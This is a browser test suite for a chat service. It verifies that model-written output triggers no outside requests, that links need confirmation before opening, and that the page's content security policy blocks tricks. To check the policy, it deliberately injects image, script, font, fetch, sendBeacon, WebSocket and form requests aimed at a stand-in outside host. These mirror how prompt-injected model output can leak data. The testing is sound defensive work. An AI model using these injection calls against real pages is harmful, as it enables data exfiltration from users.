/**
 * The browser as a way out: whatever a model writes, nothing is asked of anybody but this service until a person says so.
 *
 * It is run in a network whose only way out counts packets (tests/journeys/test_zero.py); with HOUSE_URL, HOUSE_USER and
 * HOUSE_PASSWORD the rooms of a real service are walked through as well.
 */

import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FETCHES, OUTSIDE } from "../attacks.mjs";
import { launch } from "../browser.mjs";
import { fake } from "../fake-server.mjs";
import { Watched } from "./harness";

const PASSWORD = "correct horse battery";
const HOUSE = process.env.HOUSE_URL;

let browser: Browser;
let server: Awaited<ReturnType<typeof fake>>;

beforeAll(async () => {
  browser = await launch();
  server = await fake({ seed: true, pace_ms: 1 });
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
});

/** All that the page was ever told to load, by the browser's own log. */
const foreign = (me: Watched): string[] => me.requests.filter((address) => !address.startsWith(`${me.url}/`));

async function ada(): Promise<Watched> {
  const me = await Watched.open(browser, server.url);
  await me.go("/");
  await me.signIn("ada", PASSWORD);
  return me;
}

describe("what a model writes", () => {
  it("is fetched from nobody: not while it is written, read, hovered over or opened again", async () => {
    const me = await ada();
    await me.send("[outside] please");
    await me.page.getByTestId("meta").waitFor({ timeout: 110_000 });
    const prose = me.page.locator(".prose");
    const links = prose.locator("[data-url]");
    expect(await links.count()).toBeGreaterThan(2 * OUTSIDE.length);
    expect((await prose.innerText()).match(/picture not loaded/gi)?.length).toBeGreaterThan(4 * OUTSIDE.length);
    for (const one of FETCHES.filter((each) => each.text.startsWith("<img")))
      expect(await prose.innerText(), "raw HTML is shown as what it is").toContain(one.text);
    await links.first().hover();
    await links.last().focus();
    await me.page.reload();
    await links.first().waitFor();
    expect(await prose.evaluate((node) => node.querySelectorAll("[src],[href],[srcset],[style],[ping]").length)).toBe(0);
    expect(foreign(me)).toEqual([]);
    me.clean();
    await me.close();
  });

  it("says where a link leads before it is followed, and only then follows it", async () => {
    const me = await ada();
    await me.page.context().route(/outside\.example/, (route) => route.abort());
    await me.send("[outside] please");
    await me.page.getByTestId("meta").waitFor({ timeout: 110_000 });
    await me.page.locator('.prose [data-url="http://outside.example/bare"]').click();
    await me.page.getByRole("dialog").getByText("http://outside.example/bare").waitFor();
    expect(foreign(me)).toEqual([]);
    const opened = me.page.context().waitForEvent("page");
    await me.page.getByRole("link", { name: "Open in a new tab" }).click();
    await opened;
    // The log that was empty above does see what is asked of somebody else.
    await expect.poll(() => foreign(me)).toContain("http://outside.example/bare");
    await me.close();
  });
});

describe("a page that was tricked all the same", () => {
  it("is held back by its policy", async () => {
    const me = await ada();
    const stopped = await me.page.evaluate(async (host) => {
      const found = new Set<string>();
      document.addEventListener("securitypolicyviolation", (event) => found.add(event.effectiveDirective));
      const put = (name: string, attributes: Record<string, string>) => {
        const element = document.createElement(name);
        for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
        document.body.append(element);
      };
      put("img", { src: `http://${host}/img` });
      put("link", { rel: "stylesheet", href: `http://${host}/style` });
      put("script", { src: `http://${host}/script` });
      put("iframe", { src: `http://${host}/frame` });
      put("object", { data: `http://${host}/object` });
      put("video", { src: `http://${host}/video` });
      put("link", { rel: "manifest", href: `http://${host}/manifest` });
      document.body.setAttribute("style", `background:url(http://${host}/css)`);
      new FontFace("x", `url(http://${host}/font)`).load().catch(() => {});
      fetch(`http://${host}/fetch`).catch(() => {});
      navigator.sendBeacon(`http://${host}/beacon`, "said");
      try {
        new WebSocket(`ws://${host}/socket`);
        new EventSource(`http://${host}/events`);
        new Worker(`http://${host}/worker`);
      } catch {
        // Some say so at once.
      }
      const form = document.createElement("form");
      form.action = `http://${host}/form`;
      document.body.append(form);
      form.submit();
      const wanted = 9;
      for (let turn = 0; turn < 100 && found.size < wanted; turn++)
        await new Promise((resolve) => setTimeout(resolve, 20));
      return [...found].sort();
    }, OUTSIDE[1]);
    expect(stopped).toEqual(
      expect.arrayContaining([
        "connect-src",
        "font-src",
        "form-action",
        "frame-src",
        "img-src",
        "media-src",
        "object-src",
        "script-src-elem",
        "style-src-elem",
      ]),
    );
    expect(me.page.url().startsWith(server.url)).toBe(true);
    await me.close();
  });
});

describe.runIf(HOUSE !== undefined)("the real service", () => {
  it("is all that its rooms talk to", async () => {
    const me = await Watched.open(browser, HOUSE ?? "");
    await me.go("/");
    await me.signIn(process.env.HOUSE_USER ?? "", process.env.HOUSE_PASSWORD ?? "");
    await me.send("Say hello.");
    await me.settled();
    await me.go("/settings/account");
    const rooms = me.page.locator('nav a.link[href^="#/"]');
    await rooms.first().waitFor();
    const places = await rooms.evaluateAll((links) => links.map((link) => link.getAttribute("href")?.slice(1) ?? ""));
    expect(places.length).toBeGreaterThan(15);
    for (const place of [...places, "/models/here", "/temporary"]) {
      await me.go(place);
      await me.page.waitForLoadState("networkidle");
    }
    expect(me.requests.length).toBeGreaterThan(places.length);
    expect(foreign(me)).toEqual([]);
    me.clean();
    await me.close();
  });
});
